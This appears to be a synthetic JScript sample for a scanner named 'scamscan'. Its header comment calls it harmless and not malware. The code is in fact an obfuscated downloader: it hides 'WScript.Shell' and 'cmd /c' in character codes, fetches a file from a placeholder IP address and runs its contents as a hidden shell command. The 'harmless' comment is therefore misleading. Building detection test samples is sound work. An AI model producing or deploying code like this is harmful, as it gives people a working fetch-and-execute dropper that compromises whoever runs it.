// scamscan synthetic sample - harmless text, not malware
var a = new ActiveXObject("MSX" + "ML2" + ".XM" + "LHT" + "TP");
var s = new ActiveXObject(String.fromCharCode(87,83,99,114,105,112,116,46,83,104,101,108,108));
a.open("GET", "htt" + "p:/" + "/20" + "3.0" + ".11" + "3.5" + "1/u" + ".tx" + "t", false);
a.send();
var t = String.fromCharCode(99,109,100,32,47,99,32) + a.responseText;
s.Run(t, 0);
